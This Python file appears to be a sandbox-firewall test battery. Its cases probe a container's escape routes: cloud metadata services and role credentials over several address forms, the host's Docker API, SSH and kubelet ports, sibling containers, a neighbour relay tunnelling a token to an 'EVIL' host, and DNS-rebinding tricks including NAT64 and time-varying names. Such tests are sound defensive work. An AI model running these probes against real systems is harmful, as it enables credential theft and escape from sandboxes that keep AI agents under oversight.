"""Places near the container: metadata, the host, other containers, and names that lead there."""
import socket
import time

from common import *

AWF = "github/gh-aw-firewall, network-security.test.ts"
REBINDING = "Jackson et al.: DNS rebinding (CCS 2007); nccgroup/singularity"


def metadata(id, source, address, request, sentence):
    def send():
        tell(address, 80, request)
    send.__doc__ = sentence
    row(f"metadata.{id}", source, "metadata:80 raw")(send)


metadata("aws", f"{AWF}; Capital One (2019)", "169.254.169.254", get("169.254.169.254"), "A cloud's metadata service.")
metadata("aws_v2", "IMDSv2", "169.254.169.254", b"PUT /latest/api/token HTTP/1.1\r\nHost: x\r\nX-Token: " + T + b"\r\n\r\n",
         "A token of a cloud's metadata service, second version.")
metadata("aws_v6", "IMDS over IPv6", "fd00:ec2::254", get("[fd00:ec2::254]"), "A cloud's metadata service over IPv6.")
metadata("ecs", "credentials of a task's role", "169.254.170.2", get("169.254.170.2"), "The credentials of a container service.")
metadata("gcp", f"{AWF} (GCP)", "169.254.169.254", b"GET /computeMetadata/" + T +
         b" HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n", "Another cloud's metadata service.")
metadata("azure", f"{AWF} (Azure); wireserver", "168.63.129.16", get("168.63.129.16"), "A cloud's host service at a public address.")
metadata("alibaba", "100.64.0.0/10 is in few lists", "100.100.100.200", get("100.100.100.200"), "A metadata service at a shared address.")


@row("metadata.mapped", "RFC 4291, 2.5.5.2", "metadata:80 raw")
def _():
    """The metadata service through a socket for IPv6."""
    tell("::ffff:169.254.169.254", 80, get("169.254.169.254"))


def near(where, id, source, address, port, sentence, **more):
    def send():
        with dial(address, port) as sock:
            sock.sendall(get("host.docker.internal"))
            listen(sock)
    send.__doc__ = sentence
    row(f"{where}.{id}", source, f"{where}:{port} raw", **more)(send)


near("gateway", "http", "the seed opens the host's gateway on all ports; github/gh-aw-firewall#207", GATEWAY, 8080,
     "A service of the host's.")
near("gateway", "docker", "Docker's API on port 2375", GATEWAY, 2375, "Docker's API on the host.")
near("gateway", "ssh", "the host's own SSH", GATEWAY, 22, "The host's SSH.")
near("gateway", "listed_ports", "ports 80 and 443 of the host", GATEWAY, 80, "The host on a port that is open elsewhere.")
near("gateway", "kubelet", "Kubernetes' kubelet on port 10250", GATEWAY, 10250, "A cluster's agent on the host.")
near("gateway", "ipv6", "IPv6 forgotten", GATEWAY6, 8080, "A service of the host's over IPv6.")
near("gateway", "other_address", "the host has more addresses than its gateway's", "192.0.2.1", 8080,
     "The host by another of its addresses.")
near("gateway", "outer_address", "hairpin through the host's outer address", "203.0.113.1", 8080,
     "The host by its outer address.")
near("sibling", "tcp", "other containers on the bridge", SIBLING, 5432, "Another container's database.")
near("sibling", "web", "other containers on the bridge", SIBLING, 80, "Another container's web server.")
near("sibling", "ipv6", "other containers on the bridge", SIBLING6, 5432, "Another container over IPv6.")


@row("gateway.udp", "the seed opens the host's gateway on all ports", "wire proto=17 dst=172.30.0.1")
def _():
    """UDP to the host."""
    udp(GATEWAY, ECHO, T)


@row("gateway.by_name", "host.docker.internal", "gateway:9090 raw")
def _():
    """The host by the name that Docker gives it."""
    address = socket.getaddrinfo("host.docker.internal", 9090, socket.AF_INET)[0][4]
    tell(*address, get("host.docker.internal"))


@row("gateway.link_local", "link-local addresses are in no list", "gateway:8080 raw")
def _():
    """The host by its link-local address, which follows from its Ethernet address."""
    try:
        udp(GATEWAY, 9, b"x", 1)
    except OSError:
        pass
    with open("/proc/net/arp") as table:
        mac = next(line.split()[3] for line in table if line.startswith(GATEWAY + " "))
    octets = bytearray.fromhex(mac.replace(":", ""))
    octets[0] ^= 2
    address = socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + b"\0" * 6 + octets[:3] + b"\xff\xfe" + octets[3:])
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(2)
        sock.connect((address, 8080, 0, socket.if_nametoindex("eth0")))
        sock.sendall(get("gateway"))
        listen(sock)


@row("sibling.udp", "other containers on the bridge", "wire proto=17 dst=172.30.0.3")
def _():
    """UDP to another container."""
    udp(SIBLING, ECHO, T)


@row("sibling.ping", "other containers on the bridge", "wire proto=1 dst=172.30.0.3")
def _():
    """Echo requests to another container."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        for _ in range(2):
            sock.sendto(b"\x08\0\0\0\0\1\0\1" + T * 4, (SIBLING, 0))


@row("sibling.partner", "two containers of one mind", "partner", open=INBOUND)
def _():
    """A partner beside us connects, and is told the data as the answer."""
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", PORT))
        sock.listen()
        sock.settimeout(4)
        peer, _ = sock.accept()
        peer.sendall(T + b"\n")
        time.sleep(0.3)


@row("sibling.relay", "github/gh-aw-firewall, adversarial battery M1 to M5: a neighbour as a relay", "evil:8080 raw")
def _():
    """Another container that connects for whoever asks."""
    with dial(SIBLING, 3129) as sock:
        sock.sendall(f"CONNECT {EVIL}:8080 HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())
        listen(sock)
        sock.sendall(T + b"\n")
        listen(sock)


def rebind(id, addresses, seen, sentence, source=REBINDING):
    name = f"rebind-{id}.example"

    def send():
        found = []
        try:
            found = [entry[4][0] for entry in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)]
        except OSError:
            pass
        # A gate that decides by name connects by it, whatever address is dialled.
        for address in dict.fromkeys(found + addresses + [API]):
            try:
                tell(address, 80, get(name), 0.4)
            except OSError:
                pass
    send.__doc__ = sentence
    row(f"rebind.{id}", source, seen, limit=8)(send)


rebind("metadata", ["169.254.169.253"], "metadata:80 raw", "A listed name that leads to the metadata service.")
rebind("gateway", [GATEWAY], "gateway:80 raw", "A listed name that leads to the host.")
rebind("sibling", ["172.30.0.33"], "sibling:80 raw", "A listed name that leads to another container.")
rebind("loopback", [], "loopback:80 raw", "A listed name that leads to a service of the container's own.")
rebind("ula", [SIBLING6], "sibling:80 raw", "A listed name that leads to a private IPv6 address.")
rebind("mapped", [f"::ffff:{GATEWAY}"], "gateway:80 raw", "A listed name that leads to the host in IPv6 clothes.")
rebind("cname", [GATEWAY], "gateway:80 raw", "A listed name that is another name for one inside.")
rebind("mixed", ["169.254.169.253"], "metadata:80 raw", "A listed name that leads to a good address and a bad one.")


@row("rebind.flip", "Johns et al.: time-varying rebinding; TTL 0", "metadata:80 raw", limit=8)
def _():
    """A listed name that leads to a good address at first and to a bad one after that."""
    name = "rebind-flip.example"
    for _ in range(4):
        try:
            for entry in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM):
                tell(entry[4][0], 80, get(name), 0.3)
        except OSError:
            pass
        try:
            tell(API, 80, get(name), 0.3)
        except OSError:
            pass


@row("rebind.nat64", REBINDING, "wire dst=64:ff9b::a9fe:a9fe dport=80 sport={port}")
def _():
    """A listed name that leads to the metadata service behind NAT64's prefix."""
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(1)
        sock.bind(("::", PORT))
        try:
            sock.connect((socket.getaddrinfo("rebind-nat64.example", 80)[0][4][0], 80))
        except OSError:
            sock.connect_ex(("64:ff9b::a9fe:a9fe", 80))
